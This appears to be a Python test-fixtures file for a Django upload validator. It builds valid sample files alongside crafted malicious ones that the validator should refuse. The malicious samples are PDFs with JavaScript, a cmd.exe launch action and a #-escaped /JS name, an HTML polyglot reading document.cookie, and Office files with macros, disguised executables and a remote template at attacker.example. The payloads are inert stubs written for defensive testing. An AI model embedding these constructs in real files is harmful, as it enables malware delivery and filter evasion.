"""Small real files of each accepted type, and some that only pretend to be."""

import io
import zipfile

from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject


def pdf_bytes(prepare=None) -> bytes:
    """A one-page PDF written by pypdf; ``prepare(writer)`` may add to it before it is written."""
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    if prepare:
        prepare(writer)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _action(kind: str, **entries) -> DictionaryObject:
    action = DictionaryObject({NameObject("/Type"): NameObject("/Action"), NameObject("/S"): NameObject(kind)})
    action.update({NameObject(f"/{key}"): TextStringObject(value) for key, value in entries.items()})
    return action


def _open_action(action: DictionaryObject):
    return lambda writer: writer._root_object.__setitem__(NameObject("/OpenAction"), action)


def _document_javascript(writer) -> None:
    # A named script in the document's name tree: viewers run it when the file opens.
    scripts = DictionaryObject(
        {
            NameObject("/Names"): ArrayObject(
                [TextStringObject("init"), writer._add_object(_action("/JavaScript", JS="app.alert(1)"))]
            )
        }
    )
    writer._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): scripts})


def _page_additional_action(writer) -> None:
    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): _action("/JavaScript", JS="app.alert(1)")})


MINIMAL_PDF = pdf_bytes()
# PDFs a viewer would run something from: refused as active content.
ACTIVE_PDFS = {
    "document JavaScript": pdf_bytes(_document_javascript),
    "JavaScript on opening": pdf_bytes(_open_action(_action("/JavaScript", JS="app.alert(1)"))),
    "launch action": pdf_bytes(_open_action(_action("/Launch", F="cmd.exe"))),
    "embedded executable": pdf_bytes(lambda writer: writer.add_attachment("setup.exe", b"MZ\x90\x00" + b"\x00" * 60)),
    "page additional action": pdf_bytes(_page_additional_action),
}
# The same JavaScript name written with a #-escape, as malware does to slip past byte searches.
ACTIVE_PDFS["escaped JavaScript name"] = ACTIVE_PDFS["document JavaScript"].replace(b"/JS ", b"/J#53 ")
ENCRYPTED_PDF = pdf_bytes(lambda writer: writer.encrypt("secret", algorithm="RC4-128"))
# Only the markers of a PDF around a web page.
HTML_IN_PDF_MARKERS = b"%PDF-1.7\n<html><body><script>alert(document.cookie)</script></body></html>\n%%EOF\n"


def image_bytes(image_format: str) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (8, 8), (200, 30, 30)).save(buffer, format=image_format)
    return buffer.getvalue()


DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"


def content_types(main: str = DOCX_MAIN, extra: str = "") -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/word/document.xml" ContentType="{main}"/>{extra}</Types>'
    )


def zip_bytes(members: dict[str, bytes | str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in members.items():
            archive.writestr(zipfile.ZipInfo(name), content)
    return buffer.getvalue()


def docx_bytes(main: str = DOCX_MAIN, extra_types: str = "", **members) -> bytes:
    return zip_bytes(
        {"[Content_Types].xml": content_types(main, extra_types), "word/document.xml": "<w:document/>", **members}
    )


def odt_bytes(**members) -> bytes:
    return zip_bytes(
        {
            "mimetype": "application/vnd.oasis.opendocument.text",
            "content.xml": "<office:document-content><office:scripts/></office:document-content>",
            **members,
        }
    )


VBA = "application/vnd.ms-office.vbaProject"
OLE_HEADER = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 56
# Office documents with macros or programs inside, whatever their name says.
ACTIVE_DOCUMENTS = {
    "docm renamed docx": docx_bytes(
        DOCM_MAIN, f'<Default Extension="bin" ContentType="{VBA}"/>', **{"word/vbaProject.bin": OLE_HEADER}
    ),
    "macro part with plain main type": docx_bytes(**{"word/vbaProject.bin": OLE_HEADER}),
    "macro content type only": docx_bytes(extra_types=f'<Override PartName="/word/x.bin" ContentType="{VBA}"/>'),
    "macro-enabled template": docx_bytes("application/vnd.ms-word.template.macroEnabledTemplate.main+xml"),
    "executable member": docx_bytes(**{"word/media/setup.exe": b"MZ\x90\x00" + b"\x00" * 60}),
    "program disguised as an image": docx_bytes(**{"word/media/image1.png": b"MZ\x90\x00" + b"\x00" * 60}),
    "embedded OLE package": docx_bytes(**{"word/embeddings/oleObject1.bin": OLE_HEADER}),
    "remote macro template": docx_bytes(
        **{
            "word/_rels/settings.xml.rels": (
                '<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                'relationships/attachedTemplate" Target="https://attacker.example/t.dotm" TargetMode="External"/>'
                "</Relationships>"
            )
        }
    ),
    "ODT with Basic macros": odt_bytes(**{"Basic/Standard/Module1.xml": "<script:module/>"}),
    "ODT with scripts": odt_bytes(**{"Scripts/python/run.py": "import os"}),
    "ODT with a macro bound to an event": odt_bytes(
        **{
            "content.xml": "<office:document-content><office:event-listeners><script:event-listener "
            'script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main'
            '?language=Basic&amp;location=document"/></office:event-listeners></office:document-content>'
        }
    ),
}


def upload(name: str, content: bytes, content_type: str = "application/octet-stream") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type=content_type)


def pdf(name: str = "evidence.pdf") -> SimpleUploadedFile:
    return upload(name, MINIMAL_PDF, "application/pdf")


VALID = {
    "report.pdf": (MINIMAL_PDF, "application/pdf"),
    "photo.jpg": (image_bytes("JPEG"), "image/jpeg"),
    "scan.png": (image_bytes("PNG"), "image/png"),
    "letter.docx": (docx_bytes(), "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    "letter.odt": (odt_bytes(), "application/vnd.oasis.opendocument.text"),
}
WINDOWS_EXECUTABLE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 200
